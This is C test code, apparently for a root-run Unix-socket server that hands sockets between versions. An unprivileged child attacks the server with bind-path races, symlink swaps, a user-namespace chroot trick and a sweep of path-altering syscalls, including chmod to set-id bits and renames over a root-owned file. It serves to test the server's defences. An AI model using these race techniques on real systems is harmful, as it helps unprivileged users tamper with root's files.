/* A server of root's on a Unix path, with a child that is somebody else, and that
 * tries to get at root's files by way of whoever holds the server's sockets, as
 * model says. "own" is a directory beside the path that the child may write to,
 * "victim" a file of root's in the directory of the path. What a call was allowed
 * to do that it is not bare is written to standard error.
 *   bind      one thread binds, another one changes the path meanwhile
 *   links     the same, by a link in the path that is swapped
 *   namespace in a user and mount namespace, by an absolute link
 *   calls     every call that takes a path away, or changes what is there */
#define _GNU_SOURCE
#include "common.h"
#include <pthread.h>
#include <sched.h>
#include <grp.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static char own[200], dir[200], victim[300];
static volatile int over;
static struct sockaddr_un moving = {.sun_family = AF_UNIX};

static struct sockaddr_un address(const char *path) {
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	if (strlen(path) >= sizeof a.sun_path) die("path");
	strcpy(a.sun_path, path);
	return a;
}

static const char *in_own(const char *name) {
	static __thread char b[4][300];
	static __thread int n;
	snprintf(b[++n & 3], sizeof b[0], "%s/%s", own, name);
	return b[n & 3];
}

/* Both paths are of one length, and differ in one byte: NNN/own/v and NNN/dir/v. */
static void *change_path(void *at) {
	char *p = at;
	while (!over) {
		memcpy(p, "own", 3);
		memcpy(p, "dir", 3);
	}
	return NULL;
}

static void *swap_link(void *unused) {
	(void)unused;
	while (!over) {
		if (symlink(own, in_own("link.a")) || rename(in_own("link.a"), in_own("link"))) continue;
		if (symlink(dir, in_own("link.b")) || rename(in_own("link.b"), in_own("link"))) continue;
	}
	return NULL;
}

static struct pollfd kept[200];
static int kept_count;

/* A listening socket, bound to what may be another path for whoever reads it twice.
 * It is kept: whoever noted the wrong file for it has it for the next version. */
static void bind_once(struct sockaddr_un *a) {
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	fchmod(fd, 06777);
	unlink(in_own("v"));
	if (bind(fd, (struct sockaddr *)a, sizeof *a) || listen(fd, 4))
		close(fd);
	else
		kept[kept_count++] = (struct pollfd){.fd = fd, .events = POLLIN};
}

/* A socket with set-id bits on its file, renamed over what may have been noted. */
static void replace(const char *path) {
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = address(in_own("tmp"));
	unlink(a.sun_path);
	if (!bind(fd, (struct sockaddr *)&a, sizeof a)) {
		chmod(a.sun_path, 06777);
		rename(a.sun_path, path);
		if (strcmp(path, victim)) rename(a.sun_path, victim);
		unlink(victim);
		poll(&(struct pollfd){.fd = fd, .events = POLLIN}, 1, 1); /* it may listen by now, and is to be served */
	}
	close(fd);
}

static void say(const char *call, long result) {
	if (!result) fprintf(stderr, "allowed %s: %s\n", version(), call);
}

static void all_calls(void) {
	const char *mine = strdup(in_own("mine"));
	fprintf(stderr, "attack %s: made\n", version());
	for (int round = 0; round < 100; round++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		struct sockaddr_un a = address(mine), theirs = address(opt.path);
		unlink(mine);
		bind(fd, (struct sockaddr *)&a, sizeof a);
		const char *paths[] = {opt.path, victim};
		for (int n = 0; n < 2; n++) {
			const char *path = paths[n];
			say("unlink", unlink(path));
			say("unlinkat", unlinkat(AT_FDCWD, path, 0));
			say("rename over", rename(mine, path));
			say("rename away", rename(path, in_own("away")));
			say("rename over its own", rename(path, mine));
			say("renameat", renameat(AT_FDCWD, mine, AT_FDCWD, path));
			say("renameat2", syscall(SYS_renameat2, AT_FDCWD, mine, AT_FDCWD, path, 0));
			say("exchange", syscall(SYS_renameat2, AT_FDCWD, mine, AT_FDCWD, path, 2));
			say("symlink", symlink(mine, path));
			say("link", link(mine, path));
			say("chmod", chmod(path, 06777));
			say("chown", chown(path, getuid(), getgid()));
			say("lchown", lchown(path, getuid(), getgid()));
			say("rmdir", rmdir(path));
		}
		int other = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		say("bind", bind(other, (struct sockaddr *)&theirs, sizeof theirs));
		close(other);
		close(fd);
		sleep_ms(15);
	}
}

static void write_to(const char *path, const char *text) {
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, text, strlen(text)) < 0) perror(path);
	close(fd);
}

static void attack(void) {
	pthread_t thread;
	snprintf(victim, sizeof victim, "%s/v", dir);
	moving = address(in_own("v"));
	char *changed = moving.sun_path + strlen(own) - 3;
	if (!strcmp(opt.model, "calls")) {
		all_calls();
		return;
	}
	if (!strcmp(opt.model, "bind")) {
		pthread_create(&thread, NULL, change_path, changed);
	} else if (!strcmp(opt.model, "links")) {
		moving = address(in_own("link/v"));
		pthread_create(&thread, NULL, swap_link, NULL);
	} else {
		/* In there, "root" is a directory of its own, and an absolute link leads to
		 * where it may write; outside, to root's. */
		char b[400], map[40];
		int uid = getuid(), gid = getgid();
		prctl(PR_SET_DUMPABLE, 1); /* else its /proc is root's */
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) die("unshare");
		write_to("/proc/self/setgroups", "deny");
		snprintf(map, sizeof map, "0 %d 1", uid);
		write_to("/proc/self/uid_map", map);
		snprintf(map, sizeof map, "0 %d 1", gid);
		write_to("/proc/self/gid_map", map);
		snprintf(b, sizeof b, "%s%s", in_own("root"), dir);
		for (char *p = b + strlen(own); (p = strchr(p + 1, '/'));) {
			*p = 0;
			mkdir(b, 0755);
			*p = '/';
		}
		mkdir(b, 0755);
		symlink(dir, in_own("root/link"));
		if (chroot(in_own("root")) || chdir("/")) die("chroot");
		moving = address("link/v");
		snprintf(own, sizeof own, "/");
	}
	char path[300];
	snprintf(path, sizeof path, "%s", strcmp(opt.model, "bind") ? moving.sun_path : victim);
	if (strcmp(version(), "v0")) { /* what the version before it has bound is at hand now */
		for (long end = now_ms() + 400; now_ms() < end; sleep_ms(3)) replace(path);
		over = 1;
		fprintf(stderr, "attack %s: made\n", version());
		return;
	}
	for (int n = 0; n < 60; n++) bind_once(&moving);
	over = 1;
	fprintf(stderr, "attack %s: made\n", version());
	for (;; sleep_ms(10)) poll(kept, kept_count, -1); /* else they count as not served */
}

int main(int argc, char **argv) {
	parse_options(argc, argv);
	struct sockaddr_un a = address(opt.path);
	snprintf(dir, sizeof dir, "%s", opt.path);
	*strrchr(dir, '/') = 0;
	snprintf(own, sizeof own, "%s", dir);
	memcpy(strrchr(own, '/') + 1, "own", 3);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unlink(opt.path);
	if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0 || listen(fd, 64) < 0) die("bind");
	chmod(opt.path, 0666);
	if (!fork()) {
		if (setgroups(0, NULL) || setgid(65534) || setuid(65534)) die("setuid");
		attack();
		_exit(0);
	}
	for (;;) serve_blocking(accept(fd, NULL, NULL));
}
